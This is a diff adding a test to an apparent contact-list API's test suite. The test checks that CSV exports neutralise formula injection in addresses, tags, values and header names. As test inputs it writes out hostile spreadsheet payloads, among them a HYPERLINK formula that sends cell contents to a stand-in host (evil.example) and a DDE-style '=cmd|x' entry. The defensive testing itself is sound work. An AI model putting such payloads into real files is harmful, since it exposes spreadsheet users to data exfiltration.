@@ -9,6 +9,7 @@
  */
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import { createApiKey } from '../helpers/accounts.js';
 import { expectEnvelope, type TestAccount, type TestApp } from '../helpers/app.js';
 import { errorFields } from '../helpers/bodies.js';
@@ -208,6 +209,34 @@ for (const dialect of DIALECTS) {
       assert.match(first, /^ex1@example\.net,1,[^,]+,[^,]+,a;b,/);
       assert.ok(first.includes('"says ""hi"", twice\nthen leaves"'), 'quoted, quotes doubled, line break kept');
       expectEnvelope(await call('GET', `/inbox/v1/contactlists/${await newList('Theirs', b)}/export`), 404);
+    });
+
+    it('the export defuses formulas in addresses, tags, values and header names (a leading apostrophe), read back by a CSV parser', async () => {
+      const account = await app.signUp();
+      const list = await newList('Hostile', account);
+      const field = await newField('=HYPERLINK("http://evil.example/?x="&A2,"open")', 0, account);
+      const hostile: [string, string[], string][] = [
+        ['=1+2@example.net', ['=cmd|x'], '@SUM(1,2)'],
+        ['+31@example.net', ['-x'], '+1'],
+        ['-rm@example.net', ['@at'], '-2'],
+        ['tab@example.net', ['plain'], '\tTAB'],
+        ['plain@example.net', ['a=b'], '\rCR'],
+      ];
+      for (const [email, tags, value] of hostile) await add(list, { email, tags, customFields: [{ customFieldId: field, value }] }, account);
+      const response = await app.request({ method: 'GET', url: `/inbox/v1/contactlists/${list}/export`, token: account.token });
+      assert.equal(response.status, 200);
+      assert.equal(response.headers['content-disposition'], 'attachment; filename="contacts.csv"');
+      const [header, ...rows] = parse(response.text) as string[][];
+      assert.equal(header!.at(-1), '\'=HYPERLINK("http://evil.example/?x="&A2,"open")', 'the header name of a custom field');
+      const byEmail = new Map(rows.map((r) => [r[0], [r[4], r.at(-1)]]));
+      assert.deepEqual(Object.fromEntries(byEmail), {
+        "'=1+2@example.net": ["'=cmd|x", "'@SUM(1,2)"],
+        "'+31@example.net": ["'-x", "'+1"],
+        "'-rm@example.net": ["'@at", "'-2"],
+        'tab@example.net': ['plain', "'\tTAB"],
+        'plain@example.net': ['a=b', "'\rCR"],
+      });
+      for (const row of rows) assert.equal(row[1], '1', 'other cells as they are');
     });
 
     it("bad bodies: 400 naming the field; another account's field is not usable", async () => {
